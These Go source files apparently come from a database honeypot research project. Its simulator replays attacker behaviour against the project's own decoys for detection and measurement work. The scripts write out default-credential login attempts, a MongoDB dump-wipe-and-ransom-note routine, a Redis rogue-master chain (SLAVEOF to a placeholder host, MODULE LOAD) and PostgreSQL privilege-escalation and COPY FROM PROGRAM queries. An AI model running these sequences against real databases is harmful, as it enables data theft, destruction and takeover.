		// Scouts try one login; the open config lets them run probe
		// queries, the restricted one turns them away.
		var in *instance
		if r.Intn(2) == 0 {
			in = g.insts.med[core.Postgres][core.ConfigDefault][r.Intn(len(g.insts.med[core.Postgres][core.ConfigDefault]))]
		} else {
			in = g.insts.med[core.Postgres][core.ConfigNoLogin][r.Intn(len(g.insts.med[core.Postgres][core.ConfigNoLogin]))]
		}
		var queries []string
		switch vr.Intn(4) {
		case 0:
			queries = []string{"SELECT version();"}
		case 1:
			queries = []string{"SELECT version();", "SHOW server_version;"}
		case 2:
			queries = []string{"SELECT current_database();", "SELECT usename FROM pg_user;"}
		default:
			queries = nil // login probe only (the attempt itself is scouting)
		}
		return in, pgLogin("postgres", "postgres", queries)
	case core.Redis:
		// Fake-data instances trigger the TYPE-walking behaviour.
		pool := g.insts.med[core.Redis][core.ConfigFakeData]
		if deep || vr.Intn(2) == 0 {
			in := pool[r.Intn(len(pool))]
			return in, redisScoutFakeData()
		}
		in := g.insts.med[core.Redis][core.ConfigDefault][r.Intn(len(g.insts.med[core.Redis][core.ConfigDefault]))]
		variants := [][][]string{
			{{"INFO"}, {"CLIENT", "LIST"}, {"DBSIZE"}},
			{{"INFO"}, {"CONFIG", "GET", "dir"}},
			{{"PING"}, {"INFO", "server"}},
			{{"INFO"}, {"KEYS", "*"}, {"SCAN", "0"}},
		}
		return in, redisCommands(variants[vr.Intn(len(variants))])
	}
	panic("simnet: scout on unknown DBMS " + dbms)
}
