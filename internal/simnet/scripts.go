// Attacker-side protocol scripts. Every script drives a real client
// dialogue against a honeypot handler over a net.Conn — the simulator
// never injects synthetic events; all observations enter the dataset
// through the same wire parsing a live deployment would use.
package simnet

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"decoydb/internal/bson"
	"decoydb/internal/core"
	"decoydb/internal/mongo"
	"decoydb/internal/mssql"
	"decoydb/internal/mysql"
	"decoydb/internal/postgres"
	"decoydb/internal/redis"
	"decoydb/internal/wire"
)

// Script is one client-side session behaviour.
type Script func(conn net.Conn) error

// scanClose models a plain port scan: open, (optionally grab the banner),
// close. The honeypot sees connect + disconnect — the paper's "scanning"
// class.
func scanClose(dbms string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		if dbms == core.MySQL {
			// MySQL servers speak first; scanners read the greeting.
			_, err := mysql.ReadPacket(bufio.NewReader(conn))
			return err
		}
		return nil
	}
}

// mysqlLogin performs one full MySQL login attempt, complying with the
// honeypot's cleartext auth switch.
func mysqlLogin(user, pass string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		if _, err := mysql.ReadPacket(br); err != nil {
			return err
		}
		lr := mysql.LoginRequest{
			Capabilities: mysql.CapLongPassword | mysql.CapProtocol41 |
				mysql.CapSecureConnection | mysql.CapPluginAuth,
			MaxPacket: 1 << 24, Charset: 0x21,
			User: user, AuthData: []byte{0x01},
		}
		if err := mysql.WritePacket(conn, mysql.Packet{Seq: 1, Payload: mysql.EncodeLoginRequest(lr)}); err != nil {
			return err
		}
		sw, err := mysql.ReadPacket(br)
		if err != nil {
			return err
		}
		if len(sw.Payload) > 0 && sw.Payload[0] == 0xfe {
			if err := mysql.WritePacket(conn, mysql.Packet{Seq: sw.Seq + 1, Payload: append([]byte(pass), 0)}); err != nil {
				return err
			}
			_, err = mysql.ReadPacket(br) // denial
			return err
		}
		return nil
	}
}

// mssqlLogin performs one full TDS login attempt.
func mssqlLogin(user, pass string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		pre := mssql.Packet{Type: mssql.PktPrelogin, Payload: mssql.StandardPrelogin(11, 0, 0, 0)}
		if err := mssql.WritePacket(conn, pre); err != nil {
			return err
		}
		if _, err := mssql.ReadPacket(br); err != nil {
			return err
		}
		l7 := mssql.EncodeLogin7(mssql.Login7{
			HostName: "WIN-BRUTE", UserName: user, Password: pass, AppName: "OSQL-32",
		})
		if err := mssql.WritePacket(conn, mssql.Packet{Type: mssql.PktLogin7, Payload: l7}); err != nil {
			return err
		}
		_, err := mssql.ReadPacket(br)
		return err
	}
}

// pgLogin performs one PostgreSQL password login and, if the honeypot
// lets it in, optionally runs queries before terminating.
func pgLogin(user, pass string, queries []string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		if _, err := conn.Write(postgres.EncodeStartup(map[string]string{"user": user, "database": user})); err != nil {
			return err
		}
		m, err := postgres.ReadMsg(br)
		if err != nil {
			return err
		}
		if m.Type != 'R' {
			return nil
		}
		if err := postgres.WriteMsg(conn, 'p', postgres.EncodePassword(pass)); err != nil {
			return err
		}
		// Read until ReadyForQuery (accepted) or ErrorResponse (denied).
		for {
			m, err = postgres.ReadMsg(br)
			if err != nil {
				return err
			}
			if m.Type == 'E' {
				return nil
			}
			if m.Type == 'Z' {
				break
			}
		}
		for _, q := range queries {
			if err := postgres.WriteMsg(conn, 'Q', postgres.EncodeQuery(q)); err != nil {
				return err
			}
			for {
				m, err = postgres.ReadMsg(br)
				if err != nil {
					return err
				}
				if m.Type == 'Z' {
					break
				}
			}
		}
		return postgres.WriteMsg(conn, 'X', nil)
	}
}

// redisCommands sends a fixed command sequence, reading each reply.
func redisCommands(cmds [][]string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		for _, c := range cmds {
			if _, err := conn.Write(redis.EncodeCommand(c...)); err != nil {
				return err
			}
			if _, err := redis.ReadValue(br); err != nil {
				return err
			}
		}
		return nil
	}
}

// redisScoutFakeData enumerates the keyspace and TYPE-probes every entry
// — the distinctive behaviour the paper observed only on the fake-data
// configuration.
func redisScoutFakeData() Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		send := func(args ...string) (redis.Value, error) {
			if _, err := conn.Write(redis.EncodeCommand(args...)); err != nil {
				return redis.Value{}, err
			}
			return redis.ReadValue(br)
		}
		if _, err := send("INFO"); err != nil {
			return err
		}
		keys, err := send("KEYS", "*")
		if err != nil {
			return err
		}
		for i, k := range keys.Array {
			if i >= 40 { // bots cap their walk
				break
			}
			if _, err := send("TYPE", k.Str); err != nil {
				return err
			}
			if _, err := send("GET", k.Str); err != nil {
				return err
			}
		}
		return nil
	}
}

// rawProbe writes opaque bytes (RDP cookies, JDWP handshakes) and briefly
// waits for a response — scans for services unrelated to the DBMS. Such
// probes never get the answer they hoped for, so the read is bounded by a
// short deadline, like the real tools' socket timeouts.
func rawProbe(payload string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		if _, err := conn.Write([]byte(payload)); err != nil {
			return err
		}
		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
		buf := make([]byte, 512)
		_, _ = conn.Read(buf)
		return nil
	}
}

// httpReq is one HTTP exchange for the Elasticsearch honeypot.
type httpReq struct {
	method string
	target string
	body   string
}

// elasticRequests performs a series of HTTP requests on one connection.
func elasticRequests(reqs []httpReq) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		for i, r := range reqs {
			var b strings.Builder
			fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: target:9200\r\nUser-Agent: python-requests/2.27\r\n", r.method, r.target)
			if r.body != "" {
				fmt.Fprintf(&b, "Content-Type: application/json\r\nContent-Length: %d\r\n", len(r.body))
			}
			if i == len(reqs)-1 {
				b.WriteString("Connection: close\r\n")
			}
			b.WriteString("\r\n")
			b.WriteString(r.body)
			if _, err := conn.Write([]byte(b.String())); err != nil {
				return err
			}
			if err := readHTTPResponse(br); err != nil {
				return err
			}
		}
		return nil
	}
}

func readHTTPResponse(br *bufio.Reader) error {
	// Status + headers.
	contentLen := 0
	for first := true; ; first = false {
		line, err := br.ReadString('\n')
		if err != nil {
			return err
		}
		line = strings.TrimRight(line, "\r\n")
		if line == "" {
			break
		}
		if !first {
			if v, ok := strings.CutPrefix(strings.ToLower(line), "content-length:"); ok {
				fmt.Sscanf(strings.TrimSpace(v), "%d", &contentLen)
			}
		}
	}
	if contentLen > 0 {
		buf := make([]byte, contentLen)
		if _, err := io.ReadFull(br, buf); err != nil {
			return err
		}
	}
	return nil
}

// mongoCmds runs a sequence of OP_MSG commands.
func mongoCmds(cmds []bson.D) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		for i, cmd := range cmds {
			b, err := mongo.EncodeMsg(int32(i+1), cmd)
			if err != nil {
				return err
			}
			if _, err := conn.Write(b); err != nil {
				return err
			}
			if _, err := mongo.ReadMessage(br); err != nil {
				return err
			}
		}
		return nil
	}
}

// mongoRansom performs the full theft-and-ransom attack from the paper's
// Section 6.3: enumerate, dump every collection, wipe, insert the note.
func mongoRansom(note string) Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		br := bufio.NewReader(conn)
		seq := int32(0)
		run := func(cmd bson.D) (bson.D, error) {
			seq++
			b, err := mongo.EncodeMsg(seq, cmd)
			if err != nil {
				return nil, err
			}
			if _, err := conn.Write(b); err != nil {
				return nil, err
			}
			reply, err := mongo.ReadMessage(br)
			if err != nil {
				return nil, err
			}
			return reply.Body, nil
		}
		if _, err := run(bson.D{{Key: "isMaster", Val: int32(1)}, {Key: "$db", Val: "admin"}}); err != nil {
			return err
		}
		dbs, err := run(bson.D{{Key: "listDatabases", Val: int32(1)}, {Key: "$db", Val: "admin"}})
		if err != nil {
			return err
		}
		names := []string{}
		if v, ok := dbs.Lookup("databases"); ok {
			if arr, ok := v.(bson.A); ok {
				for _, d := range arr {
					if doc, ok := d.(bson.D); ok {
						names = append(names, doc.Str("name"))
					}
				}
			}
		}
		for _, db := range names {
			colls, err := run(bson.D{{Key: "listCollections", Val: int32(1)}, {Key: "$db", Val: db}})
			if err != nil {
				return err
			}
			collNames := []string{}
			if c := colls.Doc("cursor"); c != nil {
				if v, ok := c.Lookup("firstBatch"); ok {
					if arr, ok := v.(bson.A); ok {
						for _, d := range arr {
							if doc, ok := d.(bson.D); ok {
								collNames = append(collNames, doc.Str("name"))
							}
						}
					}
				}
			}
			for _, coll := range collNames {
				// Dump, then wipe.
				if _, err := run(bson.D{{Key: "find", Val: coll}, {Key: "$db", Val: db}}); err != nil {
					return err
				}
				if _, err := run(bson.D{
					{Key: "delete", Val: coll},
					{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
					{Key: "$db", Val: db},
				}); err != nil {
					return err
				}
			}
			// Replace any previous note, then drop the fresh one.
			if _, err := run(bson.D{
				{Key: "delete", Val: "README"},
				{Key: "deletes", Val: bson.A{bson.D{{Key: "q", Val: bson.D{}}, {Key: "limit", Val: int32(0)}}}},
				{Key: "$db", Val: db},
			}); err != nil {
				return err
			}
			if _, err := run(bson.D{
				{Key: "insert", Val: "README"},
				{Key: "documents", Val: bson.A{bson.D{{Key: "content", Val: note}}}},
				{Key: "$db", Val: db},
			}); err != nil {
				return err
			}
		}
		return nil
	}
}

// pgFramedRDPProbe wraps an RDP cookie inside a syntactically valid (but
// non-v3) PostgreSQL startup frame. The honeypot parses the frame and
// logs a NON-PG-HANDSHAKE observation carrying the cookie, giving the
// RDP-scan population a second behavioural shape (the paper clustered
// the PostgreSQL RDP scans into several groups).
func pgFramedRDPProbe() Script {
	return func(conn net.Conn) error {
		defer conn.Close()
		w := wire.NewWriter(64)
		w.Uint32BE(0)          // length placeholder
		w.Uint32BE(0x00031234) // not protocol 3.0
		w.CString("cookie").CString("Cookie: mstshash=Administr")
		w.Uint8(0)
		b := w.Bytes()
		b[0] = byte(len(b) >> 24)
		b[1] = byte(len(b) >> 16)
		b[2] = byte(len(b) >> 8)
		b[3] = byte(len(b))
		if _, err := conn.Write(b); err != nil {
			return err
		}
		_ = conn.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
		buf := make([]byte, 256)
		_, _ = conn.Read(buf)
		return nil
	}
}
