// Flooding-actor scenario: one hostile source hammering a honeypot as
// fast as the wire allows while background scouts keep working the rest
// of the deployment. This is the workload the bus's Adaptive
// backpressure policy exists for — the paper's sequence analyses only
// hold if low-volume scouting traffic survives ingestion while flood
// noise is shed — and the scenario drives it through real protocol
// sessions, the same path as the full simulation.
package simnet

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
)

// FloodConfig parameterises the flood scenario. The zero value is
// usable; set Bus (typically Policy: bus.Adaptive with a small queue)
// to put the transport under test.
type FloodConfig struct {
	// Seed drives target/port selection; identical configs replay.
	Seed int64
	// FloodSessions is how many back-to-back sessions the flooding
	// source opens (default 400). Every session is a full MSSQL login
	// exchange: connect, LOGIN7, close — three events each.
	FloodSessions int
	// Scouts is the number of background scouting sources (default 4).
	Scouts int
	// SessionsPerScout is each scout's session count (default 5),
	// spread over distinct virtual hours.
	SessionsPerScout int
	// Bus configures the event transport for the run.
	Bus bus.Options
}

func (c FloodConfig) withDefaults() FloodConfig {
	if c.FloodSessions <= 0 {
		c.FloodSessions = 400
	}
	if c.Scouts <= 0 {
		c.Scouts = 4
	}
	if c.SessionsPerScout <= 0 {
		c.SessionsPerScout = 5
	}
	return c
}

// eventsPerFloodSession is what one mssqlLogin session deposits in the
// store: connect + login + close.
const eventsPerFloodSession = 3

// FloodResult reports who sent what and what the transport did with it.
type FloodResult struct {
	Flooder    netip.Addr   // the flooding source
	ScoutAddrs []netip.Addr // the background scouts
	Sessions   int64
	Errors     int64
	Bus        bus.Stats // final transport snapshot, incl. Shedders
}

// RunFlood executes the scenario: the flooder opens FloodSessions
// sessions against one honeypot with every event stamped inside a
// single virtual hour (one budget window at default SourceWindow ≥
// 1h is not required — the timestamps span < 1h regardless), while
// each scout runs SessionsPerScout sessions against the other
// instances, one per virtual hour. Flooder and scouts run concurrently;
// each source is serial within itself so per-source event order is
// preserved end to end. The bus is drained and closed before RunFlood
// returns, so sinks are complete and quiescent afterwards.
func RunFlood(ctx context.Context, cfg FloodConfig, sinks ...core.Sink) (*FloodResult, error) {
	cfg = cfg.withDefaults()

	// One dedicated flood target plus one instance per scout, so the
	// flooder's serial session queue never throttles the scouts.
	deploy := &core.Deployment{}
	for i := 0; i <= cfg.Scouts; i++ {
		deploy.Instances = append(deploy.Instances, core.Info{
			DBMS: core.MSSQL, Level: core.Low, Port: 1433 + i,
			Config: core.ConfigDefault, Group: core.GroupMulti,
			VM: fmt.Sprintf("flood-%d", i),
		})
	}
	insts := buildInstances(deploy, cfg.Seed)

	res := &FloodResult{
		// TEST-NET-3 sources: the flooder on .1, scouts above it. These
		// are deliberately outside the GeoIP plan — the scenario tests
		// transport robustness, not enrichment.
		Flooder: netip.AddrFrom4([4]byte{203, 0, 113, 1}),
	}
	for i := 0; i < cfg.Scouts; i++ {
		res.ScoutAddrs = append(res.ScoutAddrs, netip.AddrFrom4([4]byte{203, 0, 113, byte(10 + i)}))
	}

	evbus := bus.New(cfg.Bus, sinks...)
	var sessions, errCount atomic.Int64
	run := func(j job) {
		sessions.Add(1)
		if err := runSession(ctx, j, evbus); err != nil {
			errCount.Add(1)
		}
	}

	var wg sync.WaitGroup
	wg.Add(1)
	go func() { // the flood: one source, back to back, one virtual hour
		defer wg.Done()
		for i := 0; i < cfg.FloodSessions && ctx.Err() == nil; i++ {
			run(job{
				at:     core.ExperimentStart.Add(time.Duration(i) * time.Second),
				src:    netip.AddrPortFrom(res.Flooder, uint16(1024+i%60000)),
				inst:   insts.all[0],
				script: mssqlLogin("sa", fmt.Sprintf("flood%d", i)),
			})
		}
	}()
	for s := 0; s < cfg.Scouts; s++ {
		wg.Add(1)
		go func(s int) { // background scouting: low and slow
			defer wg.Done()
			addr := res.ScoutAddrs[s]
			for i := 0; i < cfg.SessionsPerScout && ctx.Err() == nil; i++ {
				run(job{
					at:     core.ExperimentStart.Add(time.Duration(i) * time.Hour),
					src:    netip.AddrPortFrom(addr, uint16(2024+i)),
					inst:   insts.all[1+s],
					script: mssqlLogin("sa", "scout"),
				})
			}
		}(s)
	}
	wg.Wait()
	if err := evbus.Close(); err != nil {
		return nil, fmt.Errorf("simnet: flood transport: %w", err)
	}
	if ctx.Err() != nil {
		return nil, ctx.Err()
	}
	res.Sessions = sessions.Load()
	res.Errors = errCount.Load()
	res.Bus = evbus.Stats()
	return res, nil
}
