package simnet_test

// The collector crash drill: a real dbcollect process is SIGKILLed in
// the middle of a durable flood, restarted over the same -store
// directory, and the final snapshot must account for every event
// exactly once — the end-to-end proof that the WAL journal on the
// collector side and the WAL spool on the farm side compose into
// exactly-once capture across an unclean restart.

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"syscall"
	"testing"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/relay"
	"decoydb/internal/wal"
)

func crashEvents(base, n int) []core.Event {
	evs := make([]core.Event, n)
	for i := range evs {
		k := base + i
		evs[i] = core.Event{
			Time: time.Unix(1700000000+int64(k), 0).UTC(),
			Src:  netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, byte(k >> 8), byte(k)}), uint16(40000+k%1000)),
			Honeypot: core.Info{
				DBMS: core.MySQL, Level: core.Low, Port: 3306,
				Config: core.ConfigDefault, Group: core.GroupSingle, VM: "crash",
			},
			Kind: core.EventLogin,
			User: fmt.Sprintf("user%d", k),
			Pass: fmt.Sprintf("pass%d", k),
		}
	}
	return evs
}

func waitUntil(t *testing.T, d time.Duration, cond func() bool, what string) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// startCollectorProc launches the dbcollect binary and returns the
// process plus the buffer its stdout accumulates into.
func startCollectorProc(t *testing.T, bin, addr, storeDir string) (*exec.Cmd, *bytes.Buffer) {
	t.Helper()
	var out bytes.Buffer
	cmd := exec.Command(bin, "-token", "crashtok", "-listen", addr, "-store", storeDir, "-statsevery", "0")
	cmd.Stdout = &out
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("start dbcollect: %v", err)
	}
	// Readiness: the listener accepts before HELLO parsing, so a bare
	// dial proves the port is live.
	waitUntil(t, 10*time.Second, func() bool {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return false
		}
		c.Close()
		return true
	}, "dbcollect to listen on "+addr)
	return cmd, &out
}

func TestCollectorCrashRecoveryExactlyOnce(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and SIGKILLs a real dbcollect process; skipped with -short")
	}
	if runtime.GOOS == "windows" {
		t.Skip("needs SIGKILL/SIGTERM semantics")
	}

	tmp := t.TempDir()
	bin := filepath.Join(tmp, "dbcollect")
	build := exec.Command("go", "build", "-o", bin, "decoydb/cmd/dbcollect")
	build.Stderr = os.Stderr
	if err := build.Run(); err != nil {
		t.Fatalf("go build dbcollect: %v", err)
	}

	// Reserve a port, then free it for the collector to bind: both
	// collector processes must use the SAME address or the forwarder's
	// reconnect loop would never find the restarted one.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()

	storeDir := filepath.Join(tmp, "store")
	proc1, _ := startCollectorProc(t, bin, addr, storeDir)

	// The farm side: a blocking (lossless) forwarder with a durable
	// spool, exactly what `decoydb -store -forward` runs.
	spool, err := wal.Open(wal.Options{Dir: filepath.Join(tmp, "spool")})
	if err != nil {
		t.Fatal(err)
	}
	fwd, err := relay.NewForwardSink(relay.ForwardOptions{
		Addrs: []string{addr}, Token: "crashtok", Farm: "crashfarm",
		Block: true, SpoolWAL: spool, FrameEvents: 100,
		MinBackoff: 5 * time.Millisecond, MaxBackoff: 50 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}

	// Phase 1: flood until the collector has acknowledged at least one
	// frame, so the kill lands mid-conversation, not before it.
	total := 0
	send := func(n int) {
		t.Helper()
		if err := fwd.RecordBatch(crashEvents(total, n)); err != nil {
			t.Fatal(err)
		}
		total += n
	}
	for i := 0; i < 20; i++ {
		send(100)
	}
	waitUntil(t, 10*time.Second, func() bool { return spool.Mark() > 0 }, "first collector ack")

	// SIGKILL: no dump, no flush, no goodbye. Anything the collector
	// journaled survives; anything it did not, the farm still holds.
	if err := proc1.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	proc1.Wait()

	// Phase 2: the flood continues into the outage; frames pile up in
	// the durable spool while the forwarder retries.
	for i := 0; i < 10; i++ {
		send(100)
	}

	// Phase 3: restart over the same -store. Replay rebuilds the
	// aggregates and the crashfarm dedup mark, so the forwarder's
	// retransmission of acked-but-unmarked frames must not double count.
	proc2, out := startCollectorProc(t, bin, addr, storeDir)
	for i := 0; i < 10; i++ {
		send(100)
	}
	fwd.Flush()
	waitUntil(t, 30*time.Second, func() bool {
		return fwd.Stats().SpoolFrames == 0 && spool.Mark() == spool.LastSeq()
	}, "spool to drain into restarted collector")
	if err := fwd.Close(); err != nil {
		t.Fatal(err)
	}
	if err := spool.Close(); err != nil {
		t.Fatal(err)
	}

	// SIGTERM ends the session with the snapshot dump (the same path a
	// deliberate shutdown takes).
	if err := proc2.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := proc2.Wait(); err != nil {
		t.Fatalf("dbcollect exit after SIGTERM: %v\n%s", err, out.String())
	}

	m := regexp.MustCompile(`events ingested\s+(\d+)`).FindSubmatch(out.Bytes())
	if m == nil {
		t.Fatalf("no 'events ingested' row in dump:\n%s", out.String())
	}
	got, err := strconv.Atoi(string(m[1]))
	if err != nil {
		t.Fatal(err)
	}
	if got != total {
		t.Fatalf("collector snapshot holds %d events, want exactly %d (sent once each across the crash)", got, total)
	}
}
