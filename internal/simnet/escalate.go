// Escalation scenario: one actor scouts a Redis honeypot, goes quiet,
// then comes back hours later with the rogue-master exploit chain —
// while a hostile flood hammers an unrelated honeypot the whole time.
// This is the workload internal/stream's transition alerting exists
// for: the scout→exploit escalation must surface while the deployment
// is still busy, not in a post-hoc report, and the scenario proves the
// alert's latency is bounded by counting how many flood sessions elapse
// between the exploit and the observer seeing the alert.
package simnet

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
)

// EscalateConfig parameterises the escalation scenario. The zero value
// is usable; attach a stream.Analyzer to the sinks and point AlertFired
// at its alert ring to measure detection latency.
type EscalateConfig struct {
	// Seed drives handler construction; identical configs replay.
	Seed int64
	// ScoutSessions is how many low-and-slow scouting sessions the actor
	// runs before going quiet (default 3), one per virtual hour.
	ScoutSessions int
	// FloodSessions is the background flood's session count (default
	// 200). Every session is a full MSSQL login exchange.
	FloodSessions int
	// ExploitAfter is how many flood sessions complete before the actor
	// strikes (default FloodSessions/4), leaving a long flood tail in
	// which the alert must surface.
	ExploitAfter int
	// FloodPacing is the real-time gap between flood sessions (default
	// 200µs). A live flood arrives over network round trips; pacing the
	// replay the same way keeps the bus workers scheduled alongside the
	// session goroutines even on a single-CPU runner, so the scenario
	// measures the analyzer's latency, not scheduler starvation.
	FloodPacing time.Duration
	// Bus configures the event transport for the run.
	Bus bus.Options
	// AlertFired reports whether the observer (typically a
	// stream.Analyzer riding the bus as a sink) has surfaced the
	// scout→exploit escalation yet. It is polled between flood sessions
	// once the exploit session has completed; the number of sessions
	// until it first returns true is the scenario's latency measure.
	AlertFired func() bool
}

func (c EscalateConfig) withDefaults() EscalateConfig {
	if c.ScoutSessions <= 0 {
		c.ScoutSessions = 3
	}
	if c.FloodSessions <= 0 {
		c.FloodSessions = 200
	}
	if c.ExploitAfter <= 0 || c.ExploitAfter >= c.FloodSessions {
		c.ExploitAfter = c.FloodSessions / 4
	}
	if c.FloodPacing <= 0 {
		c.FloodPacing = 200 * time.Microsecond
	}
	return c
}

// EscalateResult reports who did what and how fast the alert surfaced.
type EscalateResult struct {
	Actor    netip.Addr // the scout-then-exploit source
	Flooder  netip.Addr // the background flood source
	Sessions int64
	Errors   int64
	// AlertAfter is how many background flood sessions completed between
	// the actor's exploit session finishing and AlertFired first
	// returning true: the scenario's bounded-latency measure. -1 means
	// the alert never fired before the flood ended (or no AlertFired
	// probe was configured).
	AlertAfter int
	Bus        bus.Stats // final transport snapshot
}

// RunEscalation executes the scenario. The flooder opens FloodSessions
// MSSQL sessions back to back; the actor runs ScoutSessions Redis
// scouting sessions (INFO/PING, one per virtual hour), waits until
// ExploitAfter flood sessions have completed, then replays the
// rogue-master chain (SLAVEOF + MODULE LOAD) with its events stamped
// twelve virtual hours after the scouting — the long idle gap that
// makes post-hoc correlation easy to miss and live alerting valuable.
// After the exploit session returns, the flooder polls AlertFired
// between its remaining sessions and records the session count in
// AlertAfter. The bus is drained and closed before RunEscalation
// returns, so sinks are complete and quiescent afterwards.
func RunEscalation(ctx context.Context, cfg EscalateConfig, sinks ...core.Sink) (*EscalateResult, error) {
	cfg = cfg.withDefaults()

	// Instance 0 takes the flood; instance 1 is the actor's Redis
	// target. Separate honeypots, so the flood's serial session queue
	// never delays the actor — contention here is in the transport and
	// the analyzer, which is what the scenario measures.
	deploy := &core.Deployment{Instances: []core.Info{
		{DBMS: core.MSSQL, Level: core.Low, Port: 1433,
			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "esc-flood"},
		{DBMS: core.Redis, Level: core.Low, Port: 6379,
			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "esc-target"},
	}}
	insts := buildInstances(deploy, cfg.Seed)

	res := &EscalateResult{
		// TEST-NET-3 sources, like the flood scenario: transport and
		// alerting are under test, not GeoIP enrichment.
		Flooder:    netip.AddrFrom4([4]byte{203, 0, 113, 1}),
		Actor:      netip.AddrFrom4([4]byte{203, 0, 113, 5}),
		AlertAfter: -1,
	}

	evbus := bus.New(cfg.Bus, sinks...)
	var sessions, errCount atomic.Int64
	run := func(j job) {
		sessions.Add(1)
		if err := runSession(ctx, j, evbus); err != nil {
			errCount.Add(1)
		}
	}

	strike := make(chan struct{})    // closed when ExploitAfter flood sessions are done
	exploited := make(chan struct{}) // closed when the exploit session has returned

	var wg sync.WaitGroup
	wg.Add(1)
	go func() { // the background flood, one source, back to back
		defer wg.Done()
		struck := false
		sinceExploit := 0
		for i := 0; i < cfg.FloodSessions && ctx.Err() == nil; i++ {
			run(job{
				at:     core.ExperimentStart.Add(time.Duration(i) * time.Second),
				src:    netip.AddrPortFrom(res.Flooder, uint16(1024+i%60000)),
				inst:   insts.all[0],
				script: mssqlLogin("sa", fmt.Sprintf("flood%d", i)),
			})
			if i+1 >= cfg.ExploitAfter && !struck {
				struck = true
				close(strike)
			}
			time.Sleep(cfg.FloodPacing)
			if res.AlertAfter >= 0 || cfg.AlertFired == nil {
				continue
			}
			select {
			case <-exploited:
				// The exploit events are in flight or delivered; each
				// poll here is one flood session of detection latency.
				sinceExploit++
				if cfg.AlertFired() {
					res.AlertAfter = sinceExploit
				}
			default:
			}
		}
		if !struck {
			close(strike) // flood cancelled before the strike point
		}
	}()
	wg.Add(1)
	go func() { // the actor: scout, idle, escalate
		defer wg.Done()
		defer close(exploited)
		for i := 0; i < cfg.ScoutSessions && ctx.Err() == nil; i++ {
			run(job{
				at:     core.ExperimentStart.Add(time.Duration(i) * time.Hour),
				src:    netip.AddrPortFrom(res.Actor, uint16(3024+i)),
				inst:   insts.all[1],
				script: redisCommands([][]string{{"INFO"}, {"PING"}}),
			})
		}
		select {
		case <-strike:
		case <-ctx.Done():
			return
		}
		run(job{
			at:   core.ExperimentStart.Add(12 * time.Hour),
			src:  netip.AddrPortFrom(res.Actor, uint16(4024)),
			inst: insts.all[1],
			script: redisCommands([][]string{
				{"SLAVEOF", "198.51.100.9", "6379"},
				{"MODULE", "LOAD", "/tmp/exp.so"},
			}),
		})
	}()
	wg.Wait()
	if err := evbus.Close(); err != nil {
		return nil, fmt.Errorf("simnet: escalation transport: %w", err)
	}
	if ctx.Err() != nil {
		return nil, ctx.Err()
	}
	res.Sessions = sessions.Load()
	res.Errors = errCount.Load()
	res.Bus = evbus.Stats()
	return res, nil
}
