package simnet

import (
	"bufio"
	"context"
	"net"
	"net/netip"
	"sync"
	"testing"
	"time"

	"decoydb/internal/bson"
	"decoydb/internal/classify"
	"decoydb/internal/core"
	"decoydb/internal/mssql"
	"decoydb/internal/mysql"
)

// TestExploitActionDrift pins classify's exploitActions tables to the
// protocol emulations: every action classify treats as exploit-grade
// must be producible by driving the DBMS's honeypot with a real client
// script. If a table entry can no longer be emitted — because a
// normaliser changed its token or a handler dropped a command — the
// classifier is silently blind to that attack and this test fails.
func TestExploitActionDrift(t *testing.T) {
	cases := []struct {
		dbms    string
		level   core.Level
		scripts []Script
	}{
		{
			dbms: core.Redis, level: core.Low,
			scripts: []Script{
				// SLAVEOF, MODULE LOAD, SYSTEM.EXEC, CONFIG SET dir,
				// CONFIG SET dbfilename, FLUSHDB, SET — the worm chain.
				redisCommands(p2pinfectCmds("198.51.100.77", 60101, "cafe1234")),
				// EVAL — the Lua sandbox escape.
				redisCommands(redisCVECmds()),
				redisCommands([][]string{
					{"REPLICAOF", "198.51.100.77", "6379"},
					{"FLUSHALL"},
				}),
			},
		},
		{
			dbms: core.Postgres, level: core.Medium,
			scripts: []Script{
				pgLogin("postgres", "postgres", append(
					kinsingQueries("198.51.100.77", "d41d8cd9"), // DROP/CREATE TABLE, COPY FROM PROGRAM
					append(privilegeQueries("hunter2"), // ALTER USER
						"ALTER ROLE replicator WITH LOGIN",
						"CREATE USER mallory WITH PASSWORD 'pw'",
						"INSERT INTO readme VALUES ('pay up')",
						"UPDATE pg_authid SET rolsuper = true",
